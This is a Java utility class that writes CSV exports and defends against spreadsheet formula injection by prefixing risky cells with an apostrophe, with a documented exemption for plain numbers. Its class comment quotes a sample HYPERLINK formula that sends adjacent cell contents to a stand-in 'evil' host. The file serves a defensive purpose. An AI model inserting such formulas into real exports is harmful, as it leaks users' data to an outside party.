package io.plumbline.shared.csv;

import java.io.IOException;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;

/**
 * Writes every CSV file the app hands out (RFC 4180: comma, CRLF, quotes where needed) so
 * that opening it in a spreadsheet never runs a formula (CSV injection, OWASP). A client
 * named {@code =HYPERLINK("http://evil/?"&A1,"x")} would otherwise send the sheet's
 * neighbouring cells to that address when clicked.
 *
 * <p>
 * A cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage
 * return gets a leading {@code '}, which spreadsheets read as "this is text". One
 * exception, against OWASP's advice to prefix everything: a cell that is entirely a plain
 * decimal number ({@code -12.5}, {@code -100}, {@code 1e-3}) stays as it is, so that
 * negative figures remain numbers a spreadsheet can compute with. Such a cell cannot hold
 * a formula: it has no letter but an exponent's {@code e}, no parenthesis, no operator
 * after its sign. Anything else starting with a sign, such as {@code -75 (n = 4)}, is
 * text and gets the prefix.
 */
public final class CsvExport {

    private static final String FORMULA_LEADERS = "=+-@\t\r";

    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?");

    private static final CSVFormat FORMAT = CSVFormat.RFC4180;

    private CsvExport() {
    }

    /**
     * The header and the rows as one CSV text. Cells may be any object (written with
     * {@code toString()}); null is an empty cell. Every cell, header included, is
     * neutralised as the class describes.
     */
    public static String write(List<String> header, List<? extends List<?>> rows) {
        StringWriter out = new StringWriter();
        try (CSVPrinter printer = new CSVPrinter(out, FORMAT)) {
            printer.printRecord(header.stream().map(CsvExport::cell));
            for (List<?> row : rows) {
                printer.printRecord(row.stream().map(CsvExport::cell));
            }
        }
        catch (IOException stringWriterNeverFails) {
            throw new UncheckedIOException(stringWriterNeverFails);
        }
        return out.toString();
    }

    /**
     * The cell as written: its text, with a leading {@code '} if a spreadsheet could take
     * it for a formula.
     */
    public static String cell(Object value) {
        String text = value == null ? "" : value.toString();
        boolean formulaLeader = !text.isEmpty() && FORMULA_LEADERS.indexOf(text.charAt(0)) >= 0;
        return formulaLeader && !PLAIN_NUMBER.matcher(text).matches() ? "'" + text : text;
    }

}
